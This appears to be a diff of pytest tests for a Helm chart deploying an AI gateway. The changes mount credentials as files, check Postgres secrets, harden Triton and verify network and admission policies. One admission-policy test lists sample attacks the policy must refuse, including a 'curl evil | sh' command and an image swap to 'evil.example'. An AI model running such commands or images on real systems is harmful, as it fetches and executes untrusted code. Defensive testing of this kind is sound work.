@@ -30,6 +30,7 @@ CHART = ROOT / "helm" / "ladder"
 SCENARIOS = sorted(p.name for p in (CHART / "ci").glob("*-values.yaml"))
 GRAFANA = ROOT / "docs" / "grafana"
 CONFIG_DIR = "/etc/ladder"  # where the chart mounts the gateway's ConfigMap
+SECRETS_DIR = "/var/run/secrets/ladder"  # where the chart mounts credentials as files (LADDER_SECRETS_DIR)
 CLIENT_KEY = "helm-test-client-key-0123"
 SECRET_NAME = re.compile(r"KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL", re.IGNORECASE)
 INLINE_API_KEY = re.compile(r"\b(?:sk|pk|rk)-[A-Za-z0-9_-]{8,}")
@@ -65,9 +66,7 @@ def render(scenario: str | None, *sets: str) -> list[dict[str, Any]]:
 
 def find(docs: list[dict[str, Any]], kind: str, component: str = "gateway") -> dict[str, Any]:
     matches = [
-        d
-        for d in docs
-        if d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component
+        d for d in docs if d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component
     ]
     assert len(matches) == 1, f"expected one {kind} of {component}, found {len(matches)}"
     return matches[0]
@@ -75,8 +74,7 @@ def find(docs: list[dict[str, Any]], kind: str, component: str = "gateway") -> d
 
 def has(docs: list[dict[str, Any]], kind: str, component: str) -> bool:
     return any(
-        d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component
-        for d in docs
+        d["kind"] == kind and d["metadata"]["labels"].get("app.kubernetes.io/component") == component for d in docs
     )
 
 
@@ -195,13 +193,31 @@ def _clean_ladder_env(monkeypatch: pytest.MonkeyPatch) -> None:
             monkeypatch.delenv(name)
 
 
-def _apply_env(c: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
-    """The container's environment, with stand-in values for what the Secrets would hold."""
+def _apply_env(c: dict[str, Any], monkeypatch: pytest.MonkeyPatch, secrets: Path | None = None) -> None:
+    """The container's environment; its secrets folder is ``secrets`` here (see :func:`_mount_secrets`)."""
     for name, entry in env_of(c).items():
-        if "value" in entry:
-            monkeypatch.setenv(name, str(entry["value"]))
-        else:
-            monkeypatch.setenv(name, CLIENT_KEY if name == "LADDER_API_KEYS" else f"upstream-{name.lower()}")
+        assert "value" in entry, f"{name}: credentials are mounted as files, not put in the environment"
+        value = str(secrets) if name == "LADDER_SECRETS_DIR" and secrets else str(entry["value"])
+        monkeypatch.setenv(name, value)
+
+
+def secret_files(deployment: dict[str, Any]) -> dict[str, dict[str, str]]:
+    """The files of the gateway's projected ``secrets`` volume: file name -> {name: Secret, key: its key}."""
+    volume = next(v for v in deployment["spec"]["template"]["spec"]["volumes"] if v["name"] == "secrets")
+    return {
+        item["path"]: {"name": source["secret"]["name"], "key": item["key"]}
+        for source in volume["projected"]["sources"]
+        for item in source["secret"]["items"]
+    }
+
+
+def _mount_secrets(deployment: dict[str, Any], directory: Path, **held: str) -> Path:
+    """Lay out the secrets volume as the pod sees it, with ``held`` values (else stand-ins) in its files."""
+    directory.mkdir(parents=True, exist_ok=True)
+    for path in secret_files(deployment):
+        stand_in = CLIENT_KEY if path == "LADDER_API_KEYS" else f"upstream-{path.lower()}"
+        (directory / path).write_text(held.get(path, stand_in) + "\n", encoding="utf-8")
+    return directory
 
 
 def _write_config(docs: list[dict[str, Any]], directory: Path) -> None:
@@ -245,7 +261,7 @@ def test_gateway_container_matches_the_real_gateway(
     gateway = container(deployment, "gateway")
     service = find(docs, "Service")
     _clean_ladder_env(monkeypatch)
-    _apply_env(gateway, monkeypatch)
+    _apply_env(gateway, monkeypatch, _mount_secrets(deployment, tmp_path / "secrets"))
     _write_config(docs, tmp_path)
     settings = _serve_settings(gateway, tmp_path)
 
@@ -264,8 +280,14 @@ def test_gateway_container_matches_the_real_gateway(
     assert f'base="{base}"' in script
     test_paths = re.findall(r'"\$base(/[^"]*)"', script)
     assert test_paths == ["/healthz", "/v1/models"]
-    test_env = env_of(test_pod["spec"]["containers"][0])
-    assert test_env["LADDER_API_KEYS"]["valueFrom"] == env_of(gateway)["LADDER_API_KEYS"]["valueFrom"]
+    # the test pod reads the client keys from the same Secret key, mounted as the same file name
+    test_volume = test_pod["spec"]["volumes"][0]["secret"]
+    test_file = {
+        test_volume["items"][0]["path"]: {"name": test_volume["secretName"], "key": test_volume["items"][0]["key"]}
+    }
+    assert test_file.items() <= secret_files(deployment).items()
+    assert f"cat {SECRETS_DIR}/LADDER_API_KEYS" in script
+    assert test_pod["spec"]["containers"][0]["volumeMounts"][0]["mountPath"] == SECRETS_DIR
 
     with ServerThread(create_app(settings)) as server, httpx.Client(base_url=server.url, timeout=30) as http:
         for kind, path in probe_paths(gateway).items():
@@ -288,7 +310,7 @@ def settings_pool(settings: Any) -> Any:
 
 @needs_helm
 @pytest.mark.parametrize("scenario", [None, *SCENARIOS])
-def test_no_secret_is_inline(scenario: str | None) -> None:
+def test_no_secret_is_inline_or_in_the_environment(scenario: str | None) -> None:
     from ladder.core.pool import load_pool
     from ladder.core.router import default_pool_path
 
@@ -300,20 +322,24 @@ def test_no_secret_is_inline(scenario: str | None) -> None:
         spec = doc.get("spec", {}).get("template", {}).get("spec", doc.get("spec", {}))
         for c in spec.get("containers", []) + spec.get("initContainers", []):
             for name, entry in env_of(c).items():
-                if SECRET_NAME.search(name):
+                assert "secretKeyRef" not in entry.get("valueFrom", {}), f"{c['name']}: {name} is in the env"
+                if SECRET_NAME.search(name) and name != "LADDER_SECRETS_DIR":
                     assert "value" not in entry, f"{c['name']}: {name} is inline"
-                    assert entry["valueFrom"]["secretKeyRef"]["name"], name
     settings = yaml.safe_load(configmap_files(docs)["settings.yaml"])
     assert not {"api_keys", "auth_disabled"} & set(settings)
-    # Every key the pool reads from the environment comes from the upstream Secret.
+    # Every key the pool reads comes from the upstream Secret, as a file named like its variable.
     pool_text = configmap_files(docs).get("pool.yaml")
     if pool_text:
         models = yaml.safe_load(pool_text)["models"]
         wanted = {m["upstream"].get("api_key_env") for m in models} - {None}
     else:
         wanted = {m.upstream.api_key_env for m in load_pool(default_pool_path()).models} - {None}
-    gateway_env = env_of(container(find(docs, "Deployment"), "gateway"))
-    assert wanted <= {n for n, e in gateway_env.items() if "secretKeyRef" in e.get("valueFrom", {})}
+    deployment = find(docs, "Deployment")
+    files = secret_files(deployment)
+    assert wanted <= set(files)
+    assert env_of(container(deployment, "gateway"))["LADDER_SECRETS_DIR"]["value"] == SECRETS_DIR
+    mounts = {m["name"]: m for m in container(deployment, "gateway")["volumeMounts"]}
+    assert mounts["secrets"]["mountPath"] == SECRETS_DIR and mounts["secrets"]["readOnly"] is True
 
 
 # ---- Triton: wiring, resources, tracing, and the real tritonserver -----------------------------------------
@@ -541,11 +567,10 @@ def test_the_real_tritonserver_runs_the_rendered_arguments(otlp_sink: _OtlpSink,
 # ---- shared state (Redis) and client key profiles, from existing Secrets -----------------------------------
 
 REDIS_SCENARIO = "multi-replica-redis-values.yaml"
-SECRET_ENV = ("LADDER_REDIS_URL", "LADDER_KEY_PROFILES")
 
 
 @needs_helm
-def test_replicas_share_a_redis_and_key_profiles_from_secrets(
+def test_replicas_share_a_redis_a_postgres_and_key_profiles_from_secrets(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """The rendered Secret references reach the real ``ladder serve`` settings, and the gateway built from
@@ -556,22 +581,25 @@ def test_replicas_share_a_redis_and_key_profiles_from_secrets(
     from ladder.gateway.app import create_app
 
     docs = render(REDIS_SCENARIO)
-    assert has(docs, "HorizontalPodAutoscaler", "gateway")
-    gateway = container(find(docs, "Deployment"), "gateway")
-    env = env_of(gateway)
-    refs = {name: env[name]["valueFrom"]["secretKeyRef"] for name in SECRET_ENV}
-    assert refs["LADDER_REDIS_URL"] == {"name": "ladder-redis", "key": "redis-url"}
-    assert refs["LADDER_KEY_PROFILES"] == {"name": "ladder-key-profiles", "key": "key-profiles"}
+    assert has(docs, "HorizontalPodAutoscaler", "gateway") and has(docs, "PodDisruptionBudget", "gateway")
+    deployment = find(docs, "Deployment")
+    gateway = container(deployment, "gateway")
+    files = secret_files(deployment)
+    assert files["LADDER_REDIS_URL"] == {"name": "ladder-redis", "key": "redis-url"}
+    assert files["LADDER_KEY_PROFILES"] == {"name": "ladder-key-profiles", "key": "key-profiles"}
+    assert files["LADDER_TRAFFIC_DB"] == {"name": "ladder-postgres", "key": "traffic-db-url"}
     profile_key = "helm-test-profile-key-0123"
     profiles = [{"name": "team-a", "key": profile_key, "tolerance": 0.2, "requests_per_minute": 2}]
     with running_redis(tmp_path) as redis_url:
         _clean_ladder_env(monkeypatch)
-        _apply_env(gateway, monkeypatch)  # then what the two Secrets would hold
-        monkeypatch.setenv("LADDER_REDIS_URL", redis_url)
-        monkeypatch.setenv("LADDER_KEY_PROFILES", json.dumps(profiles))
+        held = {"LADDER_REDIS_URL": redis_url, "LADDER_KEY_PROFILES": json.dumps(profiles)}
+        held["LADDER_TRAFFIC_DB"] = "postgresql+psycopg://ladder:hunter2@postgres:5432/ladder"
+        _apply_env(gateway, monkeypatch, _mount_secrets(deployment, tmp_path / "secrets", **held))
         _write_config(docs, tmp_path)
         settings = _serve_settings(gateway, tmp_path)
         assert settings.redis_url.get_secret_value() == redis_url
+        assert settings.traffic_db == held["LADDER_TRAFFIC_DB"]
+        settings = settings.model_copy(update={"traffic_db": None})  # the database is tested in test_gateway_replicas
         assert [p.name for p in settings.key_profiles] == ["team-a"]
         assert settings.session_ttl_s == 7200 and settings.redis_prefix == "ladder:prod:"
         auth = {"Authorization": f"Bearer {profile_key}"}
@@ -596,8 +624,12 @@ def test_redis_needs_its_secret_and_secrets_stay_out_of_the_settings() -> None:
     for inline in ("redis_url=redis://:hunter2@redis:6379/0", "key_profiles=x"):
         refused = helm("lint", "--strict", str(CHART), "--set", f"gateway.settings.{inline}")
         assert refused.returncode != 0 and inline.split("=")[0] in refused.stdout
-    default = env_of(container(find(render(None), "Deployment"), "gateway"))
+    default = secret_files(find(render(None), "Deployment"))
     assert "LADDER_REDIS_URL" not in default and "LADDER_KEY_PROFILES" not in default
+    assert "LADDER_TRAFFIC_DB" not in default
+    no_db_secret = helm("template", "rel", str(CHART), "--set", "gateway.postgres.enabled=true",
+                        "--set", "gateway.postgres.existingSecret=")  # fmt: skip
+    assert no_db_secret.returncode != 0 and "gateway.postgres.existingSecret" in no_db_secret.stderr
 
 
 # ---- names, selectors, notes -------------------------------------------------------------------------------
@@ -754,9 +786,7 @@ def test_grafana_datasources_provide_what_the_dashboard_reads() -> None:
 
 @needs_helm
 def test_retrain_is_off_by_default_and_needs_a_volume() -> None:
-    assert not [
-        d for d in render(None) if d["metadata"]["labels"].get("app.kubernetes.io/component") == "retrain"
-    ]
+    assert not [d for d in render(None) if d["metadata"]["labels"].get("app.kubernetes.io/component") == "retrain"]
     missing = helm("template", "rel", str(CHART), "--set", "retrain.enabled=true")
     assert missing.returncode != 0 and "retrain.persistence.existingClaim" in missing.stderr
     elsewhere = helm(
@@ -824,11 +854,152 @@ def test_retrain_cronjob_runs_a_valid_ladder_retrain_against_the_gateway() -> No
         if "persistentVolumeClaim" in v
     ]
     assert claim in gateway_claims
-    # the database URL comes from the Secret, as the gateway's does
-    env = env_of(c)
-    assert env["LADDER_TRAFFIC_DB"]["valueFrom"]["secretKeyRef"]["name"] == "ladder-traffic-db"
-    assert "$(LADDER_TRAFFIC_DB)" in args
+    # the database URL is the gateway's Secret, mounted as the file --feedback defaults to
+    assert env_of(c)["LADDER_SECRETS_DIR"]["value"] == SECRETS_DIR and "--feedback" not in args
+    volume = next(v for v in pod["volumes"] if v["name"] == "secrets")["secret"]
+    gateway_db = secret_files(find(docs, "Deployment"))["LADDER_TRAFFIC_DB"]
+    assert {"name": volume["secretName"], "key": volume["items"][0]["key"]} == gateway_db
+    assert volume["items"][0]["path"] == "LADDER_TRAFFIC_DB"
+    assert {"name": "secrets", "mountPath": SECRETS_DIR, "readOnly": True} in c["volumeMounts"]
     # every rendered option is one `ladder retrain` accepts
     command = get_command(app).commands["retrain"]  # type: ignore[attr-defined]
     options = {o for p in command.params for o in p.opts}
     assert {a for a in args if a.startswith("--")} <= options
+
+
+# ---- what the retrain account may change: the admission policy, evaluated as the API server would ---------
+
+
+def _admit(policy: dict[str, Any], user: str, old: dict[str, Any], new: dict[str, Any]) -> list[str]:
+    """The messages of the policy's failed validations for an update of ``old`` to ``new`` by ``user``
+    (an empty list: admitted), evaluating its CEL with cel-python as the API server evaluates it."""
+    import celpy
+
+    env = celpy.Environment()
+
+    def run(expression: str, activation: dict[str, Any]) -> Any:
+        return env.program(env.compile(expression)).evaluate(activation)
+
+    request = {"userInfo": {"username": user}, "operation": "UPDATE", "subResource": ""}
+    activation: dict[str, Any] = {
+        "object": celpy.json_to_cel(new),
+        "oldObject": celpy.json_to_cel(old),
+        "request": celpy.json_to_cel(request),
+    }
+    spec = policy["spec"]
+    if not all(run(c["expression"], activation) for c in spec.get("matchConditions", [])):
+        return []  # not this policy's business
+    activation["variables"] = celpy.json_to_cel({})
+    computed = {v["name"]: run(v["expression"], activation) for v in spec.get("variables", [])}
+    activation["variables"] = celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in computed.items()})
+    return [v["message"] for v in spec["validations"] if not run(v["expression"], activation)]
+
+
+@needs_helm
+def test_the_retrain_account_may_roll_the_gateway_but_not_change_its_image() -> None:
+    """RBAC cannot limit a ``patch`` to some fields; the chart's ValidatingAdmissionPolicy does. A rollout
+    restart (what ``ladder retrain`` sends) is admitted; a new image, command, environment or any other
+    annotation is refused; other users (the operator's ``helm upgrade``) are not its business."""
+    import copy
+
+    pytest.importorskip("celpy", reason="pip install cel-python (the dev extra)")
+    from ladder.training.promote import RESTARTED_AT
+
+    docs = render("retrain-values.yaml")
+    policy = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicy")
+    binding = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding")
+    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
+    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
+    account = find(docs, "ServiceAccount", "retrain")["metadata"]["name"]
+    retrain_user = f"system:serviceaccount:ai:{account}"
+    old = find(docs, "Deployment")
+    old["spec"]["strategy"] = {"type": "RollingUpdate"}  # defaulted by the API server
+
+    restarted = copy.deepcopy(old)
+    restarted["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-07T03:00:00Z"
+    assert _admit(policy, retrain_user, old, restarted) == []
+    again = copy.deepcopy(restarted)
+    again["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-08T03:00:00Z"
+    assert _admit(policy, retrain_user, restarted, again) == []
+
+    def changed(edit: Any) -> dict[str, Any]:
+        new = copy.deepcopy(restarted)
+        edit(new["spec"])
+        return new
+
+    def gateway_of(spec: dict[str, Any]) -> dict[str, Any]:
+        return next(c for c in spec["template"]["spec"]["containers"] if c["name"] == "gateway")
+
+    attacks = {
+        "image": lambda s: gateway_of(s).update(image="evil.example/ladder:latest"),
+        "command": lambda s: gateway_of(s).update(command=["sh", "-c", "curl evil | sh"]),
+        "env": lambda s: gateway_of(s)["env"].append({"name": "LADDER_AUTH_DISABLED", "value": "true"}),
+        "annotation": lambda s: s["template"]["metadata"]["annotations"].update({"sidecar.io/inject": "true"}),
+        "replicas": lambda s: s.update(replicas=0),
+        "labels": lambda s: s["template"]["metadata"]["labels"].update({"extra": "x"}),
+    }
+    for what, attack in attacks.items():
+        refused = _admit(policy, retrain_user, restarted, changed(attack))
+        assert refused, f"a change of the gateway's {what} by the retrain account was admitted"
+    assert any("pod spec" in m for m in _admit(policy, retrain_user, restarted, changed(attacks["image"])))
+    upgrade = changed(attacks["image"])
+    assert _admit(policy, "system:serviceaccount:ai:helm-operator", restarted, upgrade) == []
+    # and without the policy's switch, none is rendered (clusters before Kubernetes 1.30)
+    off = render("retrain-values.yaml", "retrain.admissionPolicy.enabled=false")
+    assert not [d for d in off if d["kind"].startswith("ValidatingAdmissionPolicy")]
+
+
+# ---- Triton hardened and scaled; the network closed by default ---------------------------------------------
+
+
+@needs_helm
+def test_triton_runs_as_non_root_on_a_read_only_root_and_scales() -> None:
+    docs = render("gpu-triton-values.yaml")
+    deployment = find(docs, "Deployment", "triton")
+    pod = deployment["spec"]["template"]["spec"]
+    triton = container(deployment, "triton")
+    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
+    assert triton["securityContext"]["readOnlyRootFilesystem"] is True
+    assert triton["securityContext"]["allowPrivilegeEscalation"] is False
+    export = pod["initContainers"][0]
+    assert export["securityContext"]["readOnlyRootFilesystem"] is True
+    # what it must write goes to emptyDirs: /tmp (HOME, caches), /dev/shm, the exported repository
+    empty = {v["name"] for v in pod["volumes"] if "emptyDir" in v}
+    for c in (triton, export):
+        writable = {m["mountPath"] for m in c["volumeMounts"] if m["name"] in empty and not m.get("readOnly")}
+        assert "/tmp" in writable and env_of(c)["HOME"]["value"] == "/tmp", c["name"]
+    assert {"/dev/shm", values_of("gpu-triton-values.yaml")["triton"]["modelRepository"]["path"]} <= {
+        m["mountPath"] for m in triton["volumeMounts"] if m["name"] in empty
+    }
+    # the HPA owns the replica count; it scales on the GPU metric the scenario names
+    hpa = find(docs, "HorizontalPodAutoscaler", "triton")
+    assert hpa["spec"]["scaleTargetRef"] == {
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "name": deployment["metadata"]["name"],
+    }
+    assert "replicas" not in deployment["spec"]
+    assert [m["pods"]["metric"]["name"] for m in hpa["spec"]["metrics"]] == ["DCGM_FI_DEV_GPU_UTIL"]
+    pdb = find(docs, "PodDisruptionBudget", "triton")["spec"]
+    assert pdb["selector"]["matchLabels"].items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
+    refused = helm("template", "rel", str(CHART), "-f", str(CHART / "ci" / "gpu-triton-values.yaml"),
+                   "--set", "triton.autoscaling.metrics=null")  # fmt: skip
+    assert refused.returncode != 0 and "targetCPUUtilizationPercentage or metrics" in refused.stderr
+
+
+@needs_helm
+def test_network_policies_are_on_by_default_and_only_the_gateway_reaches_triton() -> None:
+    assert has(render(None), "NetworkPolicy", "gateway")
+    docs = render("gpu-triton-values.yaml")
+    triton = find(docs, "NetworkPolicy", "triton")["spec"]
+    gateway_pods = find(docs, "Deployment")["spec"]["template"]["metadata"]["labels"]
+    ports = container(find(docs, "Deployment", "triton"), "triton")["ports"]
+    for rule in triton["ingress"]:
+        names = {p["port"] for p in rule["ports"]}
+        if names & {"http", "grpc"}:  # inference and model control (load/unload)
+            assert names == {"http", "grpc"} and len(rule["from"]) == 1
+            assert rule["from"][0]["podSelector"]["matchLabels"].items() <= gateway_pods.items()
+        else:
+            assert names == {"metrics"}
+    covered = {p["port"] for rule in triton["ingress"] for p in rule["ports"]}
+    assert covered == {p["name"] for p in ports}
